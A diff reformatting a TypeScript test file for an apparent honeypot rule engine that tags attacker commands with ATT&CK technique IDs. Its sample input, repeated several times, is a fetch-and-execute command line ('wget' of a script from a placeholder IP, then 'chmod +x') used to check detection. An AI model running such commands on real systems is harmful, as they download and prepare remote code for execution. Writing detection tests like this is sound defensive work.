@@ -41,7 +41,11 @@ describe('the rule source starts from the shipped pack', () => {
     expect(g.error).toBeUndefined();
     expect(g.description).toBe('64 rules: 64 from the decnet pack');
     expect(source.signature()).toBe(g.signature);
-    const tags = g.engine.tag({ sourceKind: 'command', sourceId: 's#0', payload: { command_text: 'uname -a; wget http://203.0.113.9/x.sh; chmod +x x.sh' } });
+    const tags = g.engine.tag({
+      sourceKind: 'command',
+      sourceId: 's#0',
+      payload: { command_text: 'uname -a; wget http://203.0.113.9/x.sh; chmod +x x.sh' },
+    });
     expect([...new Set(tags.map((t) => t.techniqueId))].sort()).toEqual(['T1082', 'T1105']);
   });
 
@@ -70,11 +74,15 @@ describe('the rule source starts from the shipped pack', () => {
 describe('options choose the rules', () => {
   it('defaults to the pack alone, in add mode', () => {
     expect(compileTtpOptions({}, 'kafka')).toMatchObject({ rulesDir: '', rulesMode: 'add' });
-    expect(compileTtpOptions({ DECNET_TTP_RULES_DIR: '/etc/decnet/ttp', DECNET_TTP_RULES_MODE: 'replace' }, 'kafka')).toMatchObject({ rulesMode: 'replace' });
+    expect(
+      compileTtpOptions({ DECNET_TTP_RULES_DIR: '/etc/decnet/ttp', DECNET_TTP_RULES_MODE: 'replace' }, 'kafka'),
+    ).toMatchObject({ rulesMode: 'replace' });
   });
 
   it('refuses an unknown mode, and replace without a directory, naming the key', () => {
-    expect(() => compileTtpOptions({ DECNET_TTP_RULES_MODE: 'merge' }, 'kafka')).toThrow(/DECNET_TTP_RULES_MODE[\s\S]*add or replace/);
+    expect(() => compileTtpOptions({ DECNET_TTP_RULES_MODE: 'merge' }, 'kafka')).toThrow(
+      /DECNET_TTP_RULES_MODE[\s\S]*add or replace/,
+    );
     expect(() => compileTtpOptions({ DECNET_TTP_RULES_MODE: 'replace' }, 'kafka')).toThrow(ConfigValidationError);
     expect(() => compileTtpOptions({ DECNET_TTP_RULES_MODE: 'replace' }, 'kafka')).toThrow(/DECNET_TTP_RULES_DIR/);
   });
@@ -86,7 +94,9 @@ describe('the running worker tags with the pack by default and says so', () => {
   let hosted: HostedTtp | undefined;
   beforeAll(async () => {
     ({ scratch, database } = await migratedScratchDatabase());
-    await database.pool.query("INSERT INTO attackers (uuid, ip) VALUES ('11111111-1111-4111-8111-111111111111', '198.51.100.7')");
+    await database.pool.query(
+      "INSERT INTO attackers (uuid, ip) VALUES ('11111111-1111-4111-8111-111111111111', '198.51.100.7')",
+    );
   });
   afterAll(async () => {
     await hosted?.runner.close();
@@ -97,10 +107,29 @@ describe('the running worker tags with the pack by default and says so', () => {
   it('reports the rule count and source in health and tags a typed command line', async () => {
     const broker = new MemoryBroker();
     hosted = await hostTtp(broker, scratch.url, { rulesDir: '', rulesMode: 'add' });
-    expect(await hosted.health()).toMatchObject({ rules: 64, rulesRejected: 0, rulesError: null, rulesFrom: '64 rules: 64 from the decnet pack' });
-    await broker.connect('producer').publish('log.event.ssh', logEvent({ event_type: 'command', fields: { cmd: 'uname -a; wget http://203.0.113.9/x.sh; chmod +x x.sh', sid: 's1' } }));
-    await eventually(async () => Number((await database.pool.query<{ n: string }>('SELECT count(*) AS n FROM ttp_tag')).rows[0]?.n) === 2, 10_000);
-    const rows = await database.pool.query<{ rule_id: string; technique_id: string }>('SELECT rule_id, technique_id FROM ttp_tag ORDER BY rule_id');
+    expect(await hosted.health()).toMatchObject({
+      rules: 64,
+      rulesRejected: 0,
+      rulesError: null,
+      rulesFrom: '64 rules: 64 from the decnet pack',
+    });
+    await broker
+      .connect('producer')
+      .publish(
+        'log.event.ssh',
+        logEvent({
+          event_type: 'command',
+          fields: { cmd: 'uname -a; wget http://203.0.113.9/x.sh; chmod +x x.sh', sid: 's1' },
+        }),
+      );
+    await eventually(
+      async () =>
+        Number((await database.pool.query<{ n: string }>('SELECT count(*) AS n FROM ttp_tag')).rows[0]?.n) === 2,
+      10_000,
+    );
+    const rows = await database.pool.query<{ rule_id: string; technique_id: string }>(
+      'SELECT rule_id, technique_id FROM ttp_tag ORDER BY rule_id',
+    );
     expect(rows.rows).toEqual([
       { rule_id: 'R0012', technique_id: 'T1105' },
       { rule_id: 'R0018', technique_id: 'T1082' },
